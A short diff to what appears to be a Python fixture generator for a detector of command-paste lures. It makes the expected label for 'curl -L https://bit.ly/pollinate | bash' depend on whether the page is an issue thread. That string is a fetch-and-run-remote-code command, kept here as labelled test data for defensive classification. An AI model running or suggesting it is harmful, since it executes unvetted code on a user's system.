@@ -162,7 +162,9 @@ def short_links() -> list[dict[str, str]]:
             lure(
                 f"short-quoted-{i}",
                 "curl -L https://bit.ly/pollinate | bash",
-                "suspicious",
+                # an issue thread is where anyone posts a "fix" through a short link (lures6):
+                # blocked there, a warning from a tutorial, a question or a forum
+                "malicious" if "/issues/" in page else "suspicious",
                 "T1204.004",
                 "linux",
                 page,
